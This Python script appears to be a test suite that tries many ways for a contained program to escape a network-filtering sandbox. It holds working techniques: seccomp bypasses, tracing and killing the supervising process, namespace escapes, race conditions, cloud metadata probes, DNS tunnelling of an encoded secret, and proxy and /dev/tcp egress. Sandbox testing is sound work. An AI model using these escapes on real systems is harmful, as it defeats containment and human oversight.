# Further ways out, by programs that know how they are held. As in `ways.py`, whose servers they lead to.
import ctypes
import fcntl
import mmap
import os
import platform
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading

from ways import (CLOSED, DATAGRAMS, FASTOPEN, GRANTED, INET, INET6, LAN, ROUNDS, UNIX, WAYS, checked, failed,
                  granted, led_elsewhere, libc, local, packed, peer, question, resolver, tcp, tried, udp)

X86 = platform.machine() == "x86_64"
CALLS = {"clone": 56, "ptrace": 101, "setns": 308, "unshare": 272, "pidfd_open": 434, "pidfd_getfd": 438, "request_key": 249,
         "process_vm_writev": 311, "seccomp": 317, "connect": 42, "userfaultfd": 323} if X86 else {
         "clone": 220, "ptrace": 117, "setns": 268, "unshare": 97, "pidfd_open": 434, "pidfd_getfd": 438, "request_key": 218,
         "process_vm_writev": 271, "seccomp": 277, "connect": 203, "userfaultfd": 282}
NEW_USER, NEW_NET, NETWORK_OF = 0x10000000, 0x40000000, 0x894C
SEVERAL = 300


def call(name, *words):
    result = libc.syscall(ctypes.c_long(CALLS[name]), *[ctypes.c_long(word) if isinstance(word, int) else word for word in words])
    checked(result)
    return result


def family(number, kind=socket.SOCK_STREAM, protocol=0):
    return lambda: socket.socket(number, kind, protocol).close() or True


# In a process of its own, which may be killed for it.
def apart(way):
    process = os.fork()
    if process == 0:
        code = 1
        try:
            code = 0 if way() else 1
        finally:
            os._exit(code)
    return os.waitpid(process, 0)[1] == 0


def program(*words, **variables):
    wanted = {**os.environ, **variables}
    said = subprocess.run(words, env=wanted, stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
    if said.returncode:
        raise OSError(said.returncode, said.stderr.decode(errors="replace").strip()[-80:])
    return True


def curl(url, *words, **variables):
    return program("curl", "-s", "-m", "5", "--http0.9", *words, url, **variables)


# A connected socket of the machine's network, of IPv6 where the address allows it.
def granted6():
    s = socket.socket(INET6)
    s.connect(("::ffff:127.0.0.1", GRANTED))
    return s


# By way of another machine, whose address is that of the packets.
def by_source_route():
    s = granted()
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 11, 4]) + socket.inet_aton("127.0.0.2") + socket.inet_aton("127.0.0.1") + b"\0")
    return True


def by_routing_header():
    place = socket.inet_pton(INET6, "::1")
    granted6().setsockopt(socket.IPPROTO_IPV6, 57, bytes([6, 4, 4, 1, 1, 0, 0, 0]) + place + place)
    return True


def by_packet_options():
    place = socket.inet_pton(INET6, "::1")
    header = bytes([6, 4, 4, 1, 1, 0, 0, 0]) + place + place
    granted6().setsockopt(socket.IPPROTO_IPV6, 6, struct.pack("@Nii", 16 + len(header), socket.IPPROTO_IPV6, 57) + header)
    return True


def by_link(option, value):
    granted().setsockopt(socket.SOL_SOCKET, option, value)
    return True


# The port is the machine's from then on.
def bound_failed():
    failed().bind(("127.0.0.1", 0))
    return True


# The kernel takes back a connection that has no answer yet.
def given_up():
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("127.0.0.1", int(sys.argv[6])))
    s.shutdown(socket.SHUT_RDWR)
    return s


def repaired():
    granted().setsockopt(socket.IPPROTO_TCP, 19, 1)
    return True


def became_v4():
    s = granted6()
    s.setsockopt(socket.IPPROTO_IPV6, 1, INET)
    return led_elsewhere(s)


def listens_after_shutdown():
    s = granted()
    s.shutdown(socket.SHUT_RDWR)
    return checked(libc.listen(s.fileno(), 1))


def shut_down():
    s = granted()
    s.shutdown(socket.SHUT_RDWR)
    return led_elsewhere(s)


def on_a_listener():
    s = socket.create_server(("127.0.0.1", 0))
    s.connect(("127.0.0.1", CLOSED))
    return True


def on_an_own_connection():
    server = socket.create_server(("127.0.0.1", 0))
    s = socket.create_connection(server.getsockname())
    return led_elsewhere(s)


# A server of its own, and then none, at the port of the machine's.
def after_an_own_server():
    server = socket.create_server(("127.0.0.1", CLOSED))
    socket.create_connection(("127.0.0.1", CLOSED), 5).close()
    server.close()
    return tcp("127.0.0.1", CLOSED)


def by_copy():
    s = granted()
    return led_elsewhere(socket.socket(fileno=os.dup(s.fileno())))


# A child with the files of its parent.
def by_shared_files():
    s = socket.socket()
    process = call("clone", 0x400 | signal.SIGCHLD, 0, 0, 0, 0)
    if process == 0:
        libc.connect(s.fileno(), packed(CLOSED), 16)
        os._exit(0)
    os.waitpid(process, 0)
    return peer(s) is not None


# The memory of its parent, until it ends.
def by_spawned():
    return program(sys.executable, "-c", "import socket; socket.create_connection(('127.0.0.1', %d), 5)" % CLOSED)


def executes_meanwhile():
    s = socket.socket()
    s.set_inheritable(True)
    words = "import socket; socket.socket(fileno=%d).getpeername()" % s.fileno()

    def execute():
        threading.Thread(target=lambda: [libc.connect(s.fileno(), packed(CLOSED), 16) for _ in range(ROUNDS)], daemon=True).start()
        os.execv(sys.executable, [sys.executable, "-c", words])
    return apart(execute)


def interrupted():
    s, before = socket.socket(), signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
    try:
        return any(libc.connect(s.fileno(), packed(CLOSED), 16) == 0 for _ in range(ROUNDS))
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


# More calls than wait at one time.
def exhausted():
    found = []
    threads = [threading.Thread(target=lambda: found.append(libc.connect(socket.socket().fileno(), packed(CLOSED), 16)))
               for _ in range(SEVERAL)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    granted().close()
    return 0 in found


# The family changes with the address.
def changed_family():
    first = packed(GRANTED)
    second = struct.pack("=H", INET6) + struct.pack("!HI16sI", CLOSED, 0, socket.inet_pton(INET6, "::1"), 0)
    buffer, stop = ctypes.create_string_buffer(first, 28), []

    def change():
        while not stop:
            ctypes.memmove(buffer, second, 28)
            ctypes.memmove(buffer, first, 16)
    thread = threading.Thread(target=change)
    thread.start()
    try:
        for _ in range(ROUNDS):
            with socket.socket(INET6) as s:
                if libc.connect(s.fileno(), buffer, 28) == 0 and peer(s)[1] == CLOSED:
                    return True
    finally:
        stop.append(True)
        thread.join()


# One call connects, another one disconnects meanwhile and connects again.
def changed_state():
    s, stop = socket.socket(), []
    s.setblocking(False)

    def change():
        while not stop:
            libc.connect(s.fileno(), bytes(16), 16)
            libc.connect(s.fileno(), packed(CLOSED), 16)
    thread = threading.Thread(target=change)
    thread.start()
    try:
        for _ in range(ROUNDS):
            libc.connect(s.fileno(), packed(GRANTED), 16)
    finally:
        stop.append(True)
        thread.join()
    return peer(s) is not None and peer(s)[1] == CLOSED


def of_length(length):
    s = socket.socket()
    checked(libc.connect(s.fileno(), ctypes.create_string_buffer(packed(CLOSED), 256), ctypes.c_int(length)))
    return True


# Calls by other numbers than the filter has.
def by_second_table():
    s = socket.socket()
    return checked(libc.syscall(0x40000000 | CALLS["connect"], s.fileno(), packed(CLOSED), 16)) and peer(s) is not None


def by_old_calls():
    if not X86:
        raise OSError("of another processor")
    low = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    place = ctypes.addressof(ctypes.c_char.from_buffer(low))
    s = socket.socket()
    # mov eax, 102; mov ebx, 3; mov ecx, place + 64; int 0x80; ret, with rbx kept.
    code = b"\x53\xb8\x66\0\0\0\xbb\x03\0\0\0\xb9" + struct.pack("<I", place + 64) + b"\xcd\x80\x5b\xc3"
    low[:len(code)] = code
    low[64:76] = struct.pack("<III", s.fileno(), place + 96, 16)
    low[96:112] = packed(CLOSED)
    return apart(lambda: ctypes.CFUNCTYPE(ctypes.c_int)(place)() == 0)


# A filter of its own, whose calls wait for itself.
def by_own_listener():
    class Program(ctypes.Structure):
        _fields_ = [("length", ctypes.c_ushort), ("lines", ctypes.c_char_p)]
    line = struct.Struct("=HBBI")
    lines = line.pack(0x20, 0, 0, 0) + line.pack(0x15, 0, 1, CALLS["connect"]) + line.pack(6, 0, 0, 0x7FC00000) + line.pack(6, 0, 0, 0x7FFF0000)
    return apart(lambda: call("seccomp", 1, 8, ctypes.byref(Program(4, lines))) > 0)


# A filter of its own, which lets everything through.
def by_own_filter():
    class Program(ctypes.Structure):
        _fields_ = [("length", ctypes.c_ushort), ("lines", ctypes.c_char_p)]
    lines = struct.pack("=HBBI", 6, 0, 0, 0x7FFF0000)
    return apart(lambda: call("seccomp", 1, 0, ctypes.byref(Program(1, lines))) == 0 and tcp("127.0.0.1", CLOSED))


# Other processes: the watcher is the first one.
def file_of_the_watcher():
    handle = call("pidfd_open", 1, 0)
    return any(call("pidfd_getfd", handle, number, 0) for number in range(64))


def memory_of_the_watcher():
    return open("/proc/1/mem", "rb+", buffering=0).fileno() > 0


def written_into_the_watcher():
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
    return call("process_vm_writev", 1, vector, 1, vector, 1, 0)


def killed_watcher():
    os.kill(1, signal.SIGKILL)
    return tcp("127.0.0.1", CLOSED)


def traced_sibling():
    child = subprocess.Popen(["sleep", "9"])
    try:
        return checked(call("ptrace", 16, child.pid, 0, 0) or 1)
    finally:
        child.kill()
        child.wait()


def own_network():
    return apart(lambda: call("unshare", NEW_USER | NEW_NET) == 0)


def cloned_network():
    process = call("clone", NEW_USER | NEW_NET | signal.SIGCHLD, 0, 0, 0, 0)
    if process == 0:
        os._exit(0)
    return os.waitpid(process, 0)[1] == 0


def network_of_a_socket():
    s = granted()
    return call("setns", fcntl.ioctl(s.fileno(), NETWORK_OF), NEW_NET) == 0


def network_of_a_process(number):
    return call("setns", call("pidfd_open", number, 0), NEW_NET) == 0


# The kernel itself asks name servers, in its own network.
def by_kernel_resolver():
    return call("request_key", b"dns_resolver", b"c2VjcmV0.tunnel.test", b"", -4) > 0


def netlink(kind, body):
    s = socket.socket(16, socket.SOCK_RAW, 0)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    error = struct.unpack("=i", s.recv(4096)[16:20])[0]
    if error:
        raise OSError(-error, os.strerror(-error))
    return True


def tunnel():
    file = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(file, 0x400454CA, struct.pack("16sH22x", b"way0", 1))
    return True


def typed():
    _, terminal = os.openpty()
    fcntl.ioctl(terminal, 0x5412, b"x")
    return True


def encrypted(name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(socket.create_connection(("127.0.0.1", CLOSED), 5), server_hostname=name).version()


# A server of its own that sends the program on.
def redirected():
    server = socket.create_server(("127.0.0.1", 0))

    def answer():
        connection = server.accept()[0]
        connection.recv(4096)
        connection.sendall(b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:%d/\r\nContent-Length: 0\r\n\r\n" % CLOSED)
        connection.close()
    threading.Thread(target=answer, daemon=True).start()
    return curl("http://127.0.0.1:%d/" % server.getsockname()[1], "-L")


# Another kind of message to the name server: a name in it is what would be carried out.
def message(body, flags=0x100):
    s = socket.socket(INET6 if ":" in resolver() else INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(struct.pack("!HH", 7, flags) + body[4:], (resolver(), 53))
    return s.recv(4096)[3] & 15 == 0


def may_be_written(path):
    return os.open(path, os.O_WRONLY | os.O_APPEND) > 0


def to_all(address):
    s = socket.socket(INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    return s.sendto(b"x", (address, DATAGRAMS)) == 1 and s.settimeout(0.2) is None and s.recv(9)


def datagram(protocol, address="127.0.0.1"):
    s = socket.socket(INET, socket.SOCK_DGRAM, protocol)
    s.settimeout(0.2)
    s.sendto(b"x", (address, DATAGRAMS))
    return s.recv(9)


def pair_led_elsewhere(kind):
    ours, _ = socket.socketpair(socket.AF_UNIX, kind)
    ours.connect(UNIX)
    return True


PROXY = "http://127.0.0.1:%d" % CLOSED
NAME = "c2VjcmV0.tunnel.test"
ATTACKS = {
    # Sockets of other kinds.
    "MPTCP over IPv6": lambda: tcp("::1", CLOSED, INET6, 262),
    "MPTCP that opens fast": lambda: socket.socket(INET, socket.SOCK_STREAM, 262).sendto(b"x", FASTOPEN, ("127.0.0.1", CLOSED)),
    "a connection of MPTCP that is led elsewhere": lambda: led_elsewhere(mptcp()),
    "UDP-Lite": lambda: datagram(136),
    "a datagram of SCTP": lambda: socket.socket(INET, 5, 132).sendto(b"x", ("127.0.0.1", CLOSED)),
    "DCCP": lambda: socket.socket(INET, 6, 33).connect(("127.0.0.1", CLOSED)),
    "SMC": family(43),
    "RDS": family(21, 5),
    "TIPC": family(30),
    "Bluetooth": family(31, socket.SOCK_STREAM, 3),
    "XDP": family(44, socket.SOCK_RAW),
    "the kernel's cryptography": family(38, 5),
    "CAN": family(29, socket.SOCK_RAW, 1),
    "PPP": family(24),
    "a management component's socket": family(45, socket.SOCK_DGRAM),
    "keys of IPsec": family(15, socket.SOCK_RAW, 2),
    "frames of the link": family(17, socket.SOCK_DGRAM),
    "ICMP over IPv6": lambda: socket.socket(INET6, socket.SOCK_DGRAM, 58).sendto(b"\x80" + bytes(7), ("fe80::1", 0)),
    "raw packets over IPv6": lambda: socket.socket(INET6, socket.SOCK_RAW, 255),
    "a broadcast": lambda: to_all("255.255.255.255"),
    "a broadcast on loopback": lambda: to_all("127.255.255.255"),
    "an interface by netlink": lambda: netlink(16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH4sHHHH8s", 8, 3, b"way", 16, 18, 12, 1, b"dummy")),
    "a route by netlink": lambda: netlink(24, struct.pack("=BBBBBBBBI", INET, 0, 0, 0, 254, 4, 253, 1, 0) + struct.pack("=HHi", 8, 4, 1)),
    "a tunnel": tunnel,
    # Addresses.
    "an IPv4 address translated to IPv6": lambda: tcp("::ffff:0:127.0.0.1", CLOSED, INET6),
    "loopback with a scope": lambda: tcp("::1%lo", CLOSED, INET6),
    "a link with a scope": lambda: tcp("fe80::1%lo", CLOSED, INET6),
    "all nodes": lambda: tcp("ff02::1%lo", CLOSED, INET6),
    "a private address of IPv6": lambda: tcp("fd00::1", 80, INET6),
    "metadata of Alibaba": lambda: tcp("100.100.100.200", 80),
    "metadata of Azure": lambda: tcp("168.63.129.16", 80),
    "metadata of containers": lambda: tcp("169.254.170.2", 80),
    "metadata by NAT64": lambda: tcp("64:ff9b::a9fe:a9fe", 80, INET6),
    "metadata, mapped": lambda: tcp("::ffff:169.254.169.254", 80, INET6),
    "the last address of loopback": lambda: tcp("127.255.255.254", CLOSED),
    "this machine's name": lambda: tcp(socket.gethostname(), CLOSED),
    "a neighbouring port": lambda: tcp("127.0.0.1", GRANTED + 2),
    "an address of 128 bytes": lambda: of_length(128),
    "an address of 129 bytes": lambda: of_length(129),
    "an address of 8 bytes": lambda: of_length(8),
    "an address of minus one byte": lambda: of_length(-1),
    # Handed over sockets.
    "a source route": by_source_route,
    "a routing header": by_routing_header,
    "options of packets": by_packet_options,
    "a link without a route": lambda: by_link(5, 1),
    "another link": lambda: by_link(25, b"lo"),
    "another link by its number": lambda: by_link(62, 1),
    "a port of the machine that is taken": bound_failed,
    "a port of the machine on a connection that is given up": lambda: checked(libc.listen(given_up().detach(), 1)),
    "a port of the machine that is taken by a connection that is given up": lambda: given_up().bind(("127.0.0.1", 0)) is None,
    "a connection that is given up and led elsewhere": lambda: led_elsewhere(given_up()),
    "a connection that is given up and opens fast": lambda: given_up().sendto(b"x", FASTOPEN, ("127.0.0.1", CLOSED)),
    "a connection that is repaired": repaired,
    "a connection that becomes one of IPv4": became_v4,
    "a port of the machine after shutdown": listens_after_shutdown,
    "a connection that was shut down": shut_down,
    "a copy of a descriptor": by_copy,
    "the network of a connection": network_of_a_socket,
    # Its own sockets.
    "a socket that listens": on_a_listener,
    "a connection to itself that is led elsewhere": on_an_own_connection,
    "the port of a server that it had": after_an_own_server,
    # Races.
    "a family that is changed": changed_family,
    "a state that is changed": changed_state,
    "signals": interrupted,
    "a program that is executed meanwhile": executes_meanwhile,
    "more calls than wait": exhausted,
    "a child with the same files": by_shared_files,
    "a spawned program": by_spawned,
    # System calls.
    "calls of the second table": by_second_table,
    "calls of 32 bits": by_old_calls,
    "a listener of its own": by_own_listener,
    "a filter of its own": by_own_filter,
    "pages that wait": lambda: call("userfaultfd", 0),
    "the kernel's resolver": by_kernel_resolver,
    # Other processes.
    "a traced watcher": lambda: call("ptrace", 16, 1, 0, 0) == 0,
    "a traced sibling": traced_sibling,
    "a file of the watcher": file_of_the_watcher,
    "the files of the watcher": lambda: [os.open("/proc/1/fd/" + name, os.O_RDWR) for name in os.listdir("/proc/1/fd")],
    "the memory of the watcher": memory_of_the_watcher,
    "a write into the watcher": written_into_the_watcher,
    "the root of the watcher": lambda: os.listdir("/proc/1/root"),
    "a watcher that is killed": killed_watcher,
    "the network of the watcher": lambda: network_of_a_process(1),
    "a user and a network of its own": own_network,
    "a cloned network of its own": cloned_network,
    "typing into a terminal": typed,
    "a pair of datagram sockets": lambda: pair_led_elsewhere(socket.SOCK_DGRAM),
    "a pair of stream sockets": lambda: pair_led_elsewhere(socket.SOCK_STREAM),
    "a pair of packet sockets": lambda: pair_led_elsewhere(5),
    "D-Bus": lambda: local(socket.SOCK_STREAM, "/run/dbus/system_bus_socket"),
    "the log of the system": lambda: local(socket.SOCK_DGRAM, "/dev/log"),
    "Docker": lambda: local(socket.SOCK_STREAM, "/var/run/docker.sock"),
    # Names.
    "a name server's zone": lambda: names_of(252),
    "any record": lambda: names_of(255),
    "a service": lambda: names_of(33),
    "a record of no kind": lambda: names_of(10),
    "the name of an address": lambda: message(question("4.3.2.1.in-addr.arpa", 12)),
    "a name in capitals": lambda: names_of(1, NAME.upper()),
    "a long name": lambda: names_of(1, ".".join(["c" * 63] * 3) + ".tunnel.test"),
    "two questions": lambda: message(struct.pack("!6H", 0, 0, 2, 0, 0, 0) + question("localhost", 1)[12:] + question(NAME, 1)[12:]),
    "an update of a zone": lambda: message(question(NAME, 6), 0x2800),
    "a notice to a name server": lambda: message(question(NAME, 6), 0x2400),
    "an answer to a name server": lambda: message(question(NAME, 1), 0x8180),
    "names by multicast": lambda: udp("224.0.0.251", 5353),
    "names of the link": lambda: udp("224.0.0.252", 5355),
    "names of NetBIOS": lambda: udp("10.255.255.255", 137),
    "a table of names": lambda: may_be_written("/etc/hosts"),
    "another resolver": lambda: may_be_written("/etc/resolv.conf"),
    # Programs and protocols.
    "TLS without a name": lambda: encrypted(None),
    "TLS with the name of another host": lambda: encrypted("registry.npmjs.org"),
    "a redirect": redirected,
    "a proxy by variable": lambda: curl("http://other.test/", http_proxy=PROXY),
    "a proxy for encrypted requests": lambda: curl("https://other.test/", HTTPS_PROXY=PROXY),
    "a proxy of sockets": lambda: curl("http://other.test/", ALL_PROXY="socks5h://127.0.0.1:%d" % CLOSED),
    "no proxy": lambda: curl("http://127.0.0.1:%d/" % CLOSED, no_proxy="*"),
    "an address that curl is told": lambda: curl("http://granted.test:%d/" % CLOSED, "--connect-to", "granted.test:%d:127.0.0.1:%d" % (CLOSED, CLOSED)),
    "FTP": lambda: curl("ftp://127.0.0.1:%d/" % CLOSED),
    "Gopher": lambda: curl("gopher://127.0.0.1:%d/" % CLOSED),
    "LDAP": lambda: curl("ldap://127.0.0.1:%d/" % CLOSED),
    "TFTP": lambda: curl("tftp://127.0.0.1:%d/x" % DATAGRAMS),
    "git": lambda: program("git", "ls-remote", "git://127.0.0.1:%d/x" % CLOSED),
    "git over HTTP": lambda: program("git", "ls-remote", "http://127.0.0.1:%d/x" % CLOSED),
    "SSH": lambda: program("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "-p", str(CLOSED), "127.0.0.1", "true"),
    "the shell": lambda: program("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/%d" % CLOSED),
    "the shell's datagrams": lambda: program("bash", "-c", "exec 3<>/dev/udp/127.0.0.1/%d; echo x >&3; read -t 1 -u 3" % DATAGRAMS),
    "node": lambda: program("node", "-e", "require('net').connect(%d, '127.0.0.1').on('error', () => process.exit(1)).on('connect', () => process.exit(0))" % CLOSED),
}


def mptcp():
    s = socket.socket(INET, socket.SOCK_STREAM, 262)
    s.connect(("127.0.0.1", GRANTED))
    return s


def names_of(kind, name=NAME):
    return message(question(name, kind))


if __name__ == "__main__":
    tried({**WAYS, **ATTACKS})
